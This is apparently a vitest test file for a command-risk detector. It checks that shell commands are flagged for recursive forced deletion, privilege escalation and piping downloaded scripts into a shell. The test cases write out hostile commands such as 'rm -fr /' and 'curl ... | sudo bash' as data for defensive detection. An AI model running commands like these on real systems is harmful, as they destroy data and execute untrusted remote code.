import { describe, expect, it } from 'vitest';
import { commandRisks } from './command-risks.js';

const detectors = (cmd: string) => commandRisks(cmd).map((r) => r.detector);

describe('commandRisks', () => {
  it.each([
    'rm -rf /tmp/x',
    'rm -fr /',
    'rm -r -f /var/lib',
    'rm --recursive --force dir',
    '/bin/rm -Rf dir',
    'cd /tmp && rm -rf x',
    'true; rm -rf x',
    'echo $(rm -rf x)',
    'FOO=1 nohup rm -rf x',
    'timeout 5 rm -rf x',
    "'rm' -rf x",
    'sudo -n rm -rf /srv',
  ])('finds rm-rf in %s', (cmd) => {
    expect(detectors(cmd)).toContain('rm-rf');
  });

  it.each(['rm -r dir', 'rm -f file', 'echo rm -rf', 'grep -rf pattern file', 'rm -- -rf'])(
    'finds no rm-rf in %s',
    (cmd) => {
      expect(detectors(cmd)).not.toContain('rm-rf');
    },
  );

  it.each([
    'sudo systemctl restart x',
    'su -c id',
    'doas sh',
    'env sudo id',
    'uptime; /usr/bin/sudo -i',
    'pkexec id',
  ])('finds privilege escalation in %s', (cmd) => {
    expect(detectors(cmd)).toContain('privilege-escalation');
  });

  it.each(['echo sudo', 'grep su /etc/passwd', 'systemctl status sudo'])(
    'no privilege escalation in %s',
    (cmd) => {
      expect(detectors(cmd)).not.toContain('privilege-escalation');
    },
  );

  it.each([
    'curl -fsSL https://x.example/i.sh | sh',
    'wget -qO- http://x | bash -s --',
    'curl x | sudo bash',
    'curl x | sudo -u root /bin/bash',
    'curl x | python3',
    'bash -c "$(curl -fsSL https://x)"',
    'bash <(curl -s https://x)',
  ])('finds remote download exec in %s', (cmd) => {
    expect(detectors(cmd)).toContain('remote-download-exec');
  });

  it.each(['curl -o file https://x', 'cat file | sh', 'curl https://x | grep y'])(
    'no remote download exec in %s',
    (cmd) => {
      expect(detectors(cmd)).not.toContain('remote-download-exec');
    },
  );

  it('stays bounded on hostile input and flags overlong lines', () => {
    const long = `${'a;'.repeat(200_000)}rm -rf /`;
    const started = Date.now();
    const risks = detectors(long);
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(risks).toContain('long-command');
    expect(detectors('')).toEqual([]);
    expect(detectors('|||;;;&&$(`(')).toEqual([]);
  });
});
